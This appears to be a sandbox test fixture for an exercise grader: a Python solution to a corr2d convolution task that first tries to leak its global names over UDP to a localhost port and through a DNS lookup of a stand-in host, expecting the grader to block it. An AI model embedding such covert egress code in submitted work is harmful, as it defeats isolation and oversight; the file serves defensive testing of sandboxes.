# exercise: ch07_convolution/corr2d
# expect: status=error score=0
# why: sends what it knows over UDP, and as a question to a name server
import socket

LEAK = b"kata_attack " + repr(sorted(globals())).encode()


def send(family, kind, address):
    with socket.socket(family, kind) as connection:
        connection.connect(address)
        connection.send(LEAK)


ATTEMPTS = {
    "datagram": lambda: send(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", int("@UDP@"))),
    "name": lambda: socket.getaddrinfo("kata-attack.localhost.localdomain", 80),
}


def corr2d(X, K):
    done = []
    for name, attempt in ATTEMPTS.items():
        try:
            attempt()
            done.append(name)
        except OSError:
            continue
    if not done:
        raise PermissionError("none of it was allowed")
    print(done)
    return (X.unfold(0, K.shape[0], 1).unfold(1, K.shape[1], 1) * K).sum((-1, -2))
